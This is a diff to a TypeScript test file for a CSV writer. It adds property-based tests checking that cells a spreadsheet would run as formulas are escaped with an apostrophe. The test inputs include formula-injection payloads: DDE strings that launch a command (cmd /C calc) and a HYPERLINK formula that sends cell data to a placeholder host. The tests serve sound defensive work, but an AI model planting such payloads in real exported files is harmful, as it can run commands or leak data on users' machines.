@@ -34,6 +34,9 @@ describe('the separator', () => {
   test('one column alone is a table too', () => expect(delimiterOf('name\nA\nB')).toBe(','))
 })
 
+/** How a sheet takes a cell: as a formula by its first character, unless all of it is a number. Told apart from the rule it tests: here digits and their marks alone are a number. */
+const runsAsFormula = (cell: string): boolean => '=+-@\t\r'.includes(cell.charAt(0) || ' ') && !(cell.length > 1 && '+-'.includes(cell.charAt(0)) && !/[^0-9.,]/.test(cell.slice(1)))
+
 describe('what we write we read', () => {
   const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '=', '+', '-', '@', '\t', "'", ' ', '1', ';', '|', 'न', '₹'), maxLength: 12 })
   test('any table comes back as it was, formula guards and all', () => {
@@ -42,10 +45,21 @@ describe('what we write we read', () => {
       expect(read(filled.map(csvLine).join('')).map((cells) => cells.map(unguarded))).toEqual(filled)
     }), { numRuns: 10_000 })
   })
-  test('no cell begins as a formula, and figures stay figures', () => {
-    fc.assert(fc.property(cell, (text) => { expect(guarded(text)).toMatch(/^(?![=+\-@\t\r])|^[+-]?\d/) }), { numRuns: 10_000 })
-    expect(['=1+1', '-12.5', '@a', '+91 44 2257'].map(guarded)).toEqual(["'=1+1", '-12.5', "'@a", "'+91 44 2257"])
+  test('[R56] a sheet runs none of our cells: one that begins as a formula is a number to its end, whatever it is read from', () => {
+    const written = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '\t', '=', '+', '-', '@', "'", ' ', '1', '0', '.', ';', '|', '!', '(', ')', 'E', 'cmd', '₹'), maxLength: 12 })
+    fc.assert(fc.property(fc.array(written, { minLength: 2, maxLength: 4 }), (cells) => {
+      expect(cells.map(guarded).filter(runsAsFormula)).toEqual([])
+      // As it stands in the file, quotes, line breaks and all.
+      expect(read(csvLine(['x', ...cells])).flat().filter(runsAsFormula)).toEqual([])
+    }), { numRuns: 10_000 })
   })
+  test.each([
+    '=1+1', '@a', '+91 44 2257', '=cmd|\' /C calc\'!A0', '-1+cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!D2', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '\t=1+1', '\r=1+1', '\r\n=1+1', "'=1+1", '-1E5+A1', '+-1', '-', '-(1)',
+  ])('%j is written with an apostrophe before it', (text) => {
+    expect(runsAsFormula(text) || text.startsWith("'")).toBe(true)
+    expect(guarded(text)).toBe(`'${text}`)
+  })
+  test.each(['-12.5', '+5', '-1,00,000', '-1.800,50', '12', '₹-5'])('%j is a figure and stays as it is', (text) => expect(guarded(text)).toBe(text))
   test('any list of words comes back as it was', () => {
     const word = fc.string({ unit: fc.constantFrom('a', '|', '\\', ',', ';', "'", '[', ' ', 'z'), minLength: 1, maxLength: 8 }).map((text) => `a${text.trim()}z`)
     fc.assert(fc.property(fc.array(word, { maxLength: 5 }), (words) => { expect(splitWords(joinWords(words))).toEqual(words) }), { numRuns: 10_000 })
